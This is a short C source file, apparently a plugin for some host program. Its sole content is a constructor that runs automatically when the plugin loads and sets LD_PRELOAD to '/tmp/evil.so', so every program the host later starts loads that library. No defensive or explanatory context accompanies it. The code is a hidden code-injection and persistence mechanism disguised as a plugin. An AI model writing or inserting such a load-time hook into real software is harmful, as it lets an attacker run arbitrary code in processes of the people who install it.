/* Changes what every later program of the host would load. */
#define _GNU_SOURCE
#include <stdlib.h>
#include "plugin.h"

__attribute__((constructor)) static void begin(void) { setenv("LD_PRELOAD", "/tmp/evil.so", 1); }
